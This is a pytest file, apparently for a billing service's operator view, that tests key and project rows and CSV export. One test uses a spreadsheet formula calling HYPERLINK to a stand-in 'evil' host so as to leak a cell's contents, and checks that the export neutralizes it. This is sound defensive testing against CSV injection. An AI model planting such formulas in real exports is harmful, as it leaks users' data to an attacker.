"""A view, billing's record in plain values, and rows as text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from billing.accounts.account_sql import Project
from billing.accounts.key_sql import KeyRecord
from billing.caller import ProjectLimits
from serve.operator import rows
from serve.operator.accounts import Key
from serve.operator.accounts import Project as ProjectView

NOW = datetime(2026, 11, 1, 12, 0, 3, 4, tzinfo=UTC)
PROJECT = Project("prj", "wsp", "name", True, ProjectLimits(), NOW, None)


def test_what_a_key_without_a_spend_limit_has_spent_is_not_known() -> None:
    shown = Key.row(KeyRecord("key", "prj", "name", NOW, None, limits_key_id="key"))
    assert shown["created_at"] == "2026-11-01T12:00:03+00:00"
    assert [shown[name] for name in ("posted_usd", "held_usd", "month", "expires_at", "allowed_models")] == [
        None
    ] * 5


@pytest.mark.parametrize(("stored", "shown"), [(None, None), ('{"keep":0.3}', {"keep": 0.3}), ("{", "{")])
def test_a_default_that_cannot_be_read_is_shown_as_it_is(stored: str | None, shown: object) -> None:
    assert ProjectView.row(replace(PROJECT, compression=stored))["compression"] == shown


def test_what_cannot_be_shown_after_it_was_done_is_no_mistake_of_the_request() -> None:
    wrong = replace(PROJECT, metered="unknown")  # type: ignore[arg-type]
    with pytest.raises(RuntimeError, match="Project cannot be shown"):
        ProjectView.row(wrong)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_behind_an_apostrophe(begin: str) -> None:
    cell = f'{begin}HYPERLINK("http://evil/"&A1)'
    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name"], [{"name": cell}]), newline="")))
    assert row == [f"'{cell}"]


@pytest.mark.parametrize("cell", ["acme", "a=b", "-0.000000001", "-12", "+3.50", "17.3456", ""])
def test_plain_text_and_numbers_stay_as_they_are(cell: str) -> None:
    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name", "n"], [{"name": cell, "n": -5}]))))
    assert row == [cell, "-5"]
